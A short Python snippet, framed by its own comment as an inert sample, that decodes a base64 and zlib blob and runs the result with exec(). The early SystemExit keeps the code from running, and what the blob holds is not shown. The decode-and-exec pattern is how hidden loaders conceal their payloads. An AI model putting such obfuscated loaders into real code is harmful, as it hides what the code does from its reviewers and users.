raise SystemExit(0)  # inert sample: nothing below ever runs

import base64
import zlib

blob = "eJxLTc7IV8jMSy1KLEktAgAgFgTL"
exec(zlib.decompress(base64.b64decode(blob)))
